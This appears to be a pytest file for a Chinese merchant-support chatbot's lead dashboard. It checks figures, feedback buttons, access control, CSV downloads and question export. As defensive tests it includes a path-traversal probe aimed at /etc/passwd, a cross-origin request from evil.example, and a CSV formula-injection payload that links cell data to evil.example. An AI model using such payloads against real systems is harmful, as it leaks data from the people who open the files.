"""The support lead's insights over the real stack: what merchants did in the chat (socket.io) and
the desk in the console shows up in the figures; the 有帮助 / 没帮助 buttons; who may see them."""

from __future__ import annotations

import csv
import io

import yaml
from rasa.shared.nlu.training_data.formats.rasa_yaml import RasaYAMLReader

from devtools.stack import PROJECT
from dialogue.topics import FAQ_TOPICS
from tickets.statuses import AgentRole, HandoffReason

RESPONSES = yaml.safe_load((PROJECT / "domain.yml").read_text(encoding="utf-8"))["responses"]

GIBBERISH = "qwerty zxcv"  # no intent fits: the bot asks back (checked below)


def figures(lead) -> dict:
    response = lead.get("/insights?period=today")
    assert response.status_code == 200, response.text
    return response.json()


def feedback_of(figures: dict, topic: str) -> dict:
    return next((row for row in figures["feedback"] if row["topic"] == topic), {"helpful": 0, "unhelpful": 0})


def unanswered_texts(figures: dict) -> list:
    return [text for group in figures["unanswered"] for text in group["texts"]]


def test_a_day_of_merchants_and_agents_shows_in_the_leads_figures(rasa_stack, merchants, desk):
    lead = desk.new_agent("组长", role=AgentRole.LEAD).login(rasa_stack.rasa_url)
    before = figures(lead)

    # A merchant gets an answer, finds it helpful, then says something the bot cannot understand.
    asker = merchants().connect()
    answer = asker.turn("注销要收费吗")[-1]
    rating = {b["title"]: b["payload"] for b in answer["quick_replies"]}
    assert list(rating) == ["有帮助", "没帮助"]
    assert "感谢您的评价" in asker.texts(rating["有帮助"])[0]
    not_understood = asker.turn(GIBBERISH)[0]["text"]
    assert not_understood in (RESPONSES["utter_ask_affirmation"][0]["text"], RESPONSES["utter_ask_rephrase"][0]["text"])

    # Another asks for a person; an agent claims the case and answers.
    seeker = merchants().connect()
    seeker.turn("转人工")
    case = desk.case_of(seeker)
    agent = desk.new_agent("李客服").login(rasa_stack.rasa_url)
    assert agent.post(f"/cases/{case.case_no}/claim").ok
    assert agent.post(f"/cases/{case.case_no}/reply", {"text": "您好，我来帮您。"}).ok

    after = figures(lead)
    assert after["conversations"]["total"] - before["conversations"]["total"] == 2
    handoffs = HandoffReason.REQUESTED.label
    assert after["conversations"]["handoffs"][handoffs] - before["conversations"]["handoffs"][handoffs] == 1
    outcomes = lambda f, name: f["answers"]["outcomes"].get(name, 0)  # noqa: E731
    assert outcomes(after, "answered") - outcomes(before, "answered") == 1
    assert outcomes(after, "helpful") - outcomes(before, "helpful") == 1
    assert feedback_of(after, "policy_and_fees")["helpful"] - feedback_of(before, "policy_and_fees")["helpful"] == 1
    assert "policy_and_fees" in [t["topic"] for t in after["answers"]["top_topics"]]

    assert GIBBERISH in unanswered_texts(after)

    assert after["desk"]["claimed"] - before["desk"]["claimed"] == 1
    assert agent.username in [row["agent"] for row in after["desk"]["cases_per_agent"]]
    assert after["desk"]["first_reply_s"]["p50"] is not None
    assert after["desk"]["wait_to_claim_s"]["p50"] is not None


def test_unhelpful_offers_a_person_and_feedback_is_only_offered_where_it_can_be_given(rasa_stack, merchants, desk):
    lead = desk.new_agent("组长", role=AgentRole.LEAD).login(rasa_stack.rasa_url)
    merchant = merchants().connect()
    answer = merchant.turn("注销需要准备什么材料")[-1]
    unhelpful = next(b["payload"] for b in answer["quick_replies"] if b["title"] == "没帮助")
    sorry = merchant.turn(unhelpful)[-1]
    assert "抱歉没能帮到您" in sorry["text"] and [b["title"] for b in sorry["quick_replies"]] == ["转人工"]

    # Inside the application form the form asks on after the answer: no rating there.
    replies = merchant.turn("我要注销")
    replies = merchant.turn("注销要收费吗")
    assert len(replies) == 2 and not replies[0].get("quick_replies")
    assert "商户编号" in replies[-1]["text"]

    # A rating typed by hand, not offered by the bot, is text, not a rating.
    before = feedback_of(figures(lead), "balance")
    merchant.turn('/feedback_helpful{"topic": "balance"}')
    assert feedback_of(figures(lead), "balance") == before


def test_only_a_lead_sees_the_figures(rasa_stack, desk):
    import requests

    base = f"{rasa_stack.rasa_url}/console/api/insights"
    for path in ("", "/csv/topics"):
        assert requests.get(base + path, timeout=30).status_code == 401
    assert requests.post(base + "/export", json={"items": []}, timeout=30).status_code == 401

    agent = desk.new_agent().login(rasa_stack.rasa_url)
    for path in ("/insights", "/insights/csv/topics"):
        refused = agent.get(path)
        assert refused.status_code == 403 and refused.json()["error"] == "仅客服组长可以查看数据看板"
    assert agent.post("/insights/export", {"items": [{"label": "faq/x", "texts": ["a"]}]}).status_code == 403

    # The page itself is served to anyone; it shows the figures only after the API agrees.
    page = requests.get(f"{rasa_stack.rasa_url}/console/insights", timeout=30)
    assert page.status_code == 200 and "数据看板" in page.text
    assert "default-src 'self'" in page.headers["Content-Security-Policy"]


def test_the_lead_downloads_tables_and_labelled_questions(rasa_stack, desk):
    lead = desk.new_agent("组长", role=AgentRole.LEAD).login(rasa_stack.rasa_url)

    table = lead.get("/insights/csv/topics?period=30d")
    assert table.status_code == 200 and table.headers["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(table.content.decode("utf-8-sig"))))
    assert rows[0] == ["主题", "回答次数"]
    assert all(name in [t.title for t in FAQ_TOPICS.values()] for name, _ in rows[1:])

    for query in ("from=2026-12-01&to=2026-01-01", "from=2020-01-01&to=2026-01-01", "from=昨天&to=今天", "period=1y"):
        bad_period = lead.get(f"/insights?{query}")  # backwards, over a year, not dates, no such preset
        assert bad_period.status_code == 400 and "时间范围" in bad_period.json()["error"], query
    unknown = lead.get("/insights/csv/passwords")
    assert unknown.status_code == 404 and unknown.json()["error"] == "没有这张表"
    assert lead.get("/insights/csv/..%2f..%2fetc%2fpasswd").status_code == 404

    items = [
        {"label": "faq/balance", "texts": ["余额咋提出来"]},
        {"label": "faq/qr_code", "texts": ["收款码还能用吗", "二维码注销后能用不"]},
    ]
    exported = lead.post("/insights/export", {"items": items})
    assert exported.status_code == 200
    examples = RasaYAMLReader().reads(exported.text).intent_examples
    assert sorted((e.get("intent_response_key") or e.get("intent"), e.get("text")) for e in examples) == sorted(
        (item["label"], text) for item in items for text in item["texts"]
    )

    refused = lead.post("/insights/export", {"items": [{"label": "faq/../../etc", "texts": ["x"]}]})
    assert refused.status_code == 400 and "faq/" in refused.json()["error"]
    assert lead.post("/insights/export", {"items": "all"}).status_code == 400
    flood = lead.post("/insights/export", {"items": [{"label": "faq/balance", "texts": ["余额"]}] * 501})
    assert flood.status_code == 400 and "最多导出 500 组" in flood.json()["error"]
    foreign = lead.http.post(
        f"{rasa_stack.rasa_url}/console/api/insights/export",
        json={"items": items},
        headers={"Origin": "https://evil.example"},
        timeout=30,
    )
    assert foreign.status_code == 403


def test_a_merchants_formula_reaches_the_leads_spreadsheet_as_text(rasa_stack, merchants, desk):
    """The attacker is a merchant: what they type lands in the unanswered questions' CSV, which the
    lead opens in a spreadsheet. A formula there must stay text."""
    formula = '=HYPERLINK("http://evil.example/?"&A1,"qwerty zxcv")'
    attacker = merchants().connect()
    attacker.turn(formula)
    lead = desk.new_agent("组长", role=AgentRole.LEAD).login(rasa_stack.rasa_url)
    assert formula in unanswered_texts(figures(lead))  # the board shows it as typed (as text)
    table = lead.get("/insights/csv/unanswered?period=today")
    cells = [cell for row in csv.reader(io.StringIO(table.content.decode("utf-8-sig"))) for cell in row]
    assert any(cell.startswith(f"'{formula}") for cell in cells)
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
